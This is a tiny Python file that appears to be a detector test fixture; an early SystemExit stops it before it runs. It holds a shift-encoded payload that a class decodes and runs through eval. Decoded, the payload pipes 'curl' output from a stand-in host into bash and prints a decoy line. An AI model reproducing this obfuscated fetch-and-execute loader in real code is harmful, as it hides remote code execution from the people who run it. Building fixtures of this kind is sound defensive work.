raise SystemExit('a fixture')
# held by decoded-exec
class Kr:
    def __decode__(self, s):
        return "".join([chr(ord(x) - 3) if x != "~" else "\n" for x in s])
    def __init__(self, s):
        eval(compile(self.__decode__(s), "<kr>", "exec"))
Kr('lpsruw#rv~rv1v|vwhp+*fxuo#0v#kwwsv=22g1h{dpsoh1lqydolg2{#\x7f#edvk*,~sulqw+*qrwklqj#wr#eh#vhhq#khuh*,~')
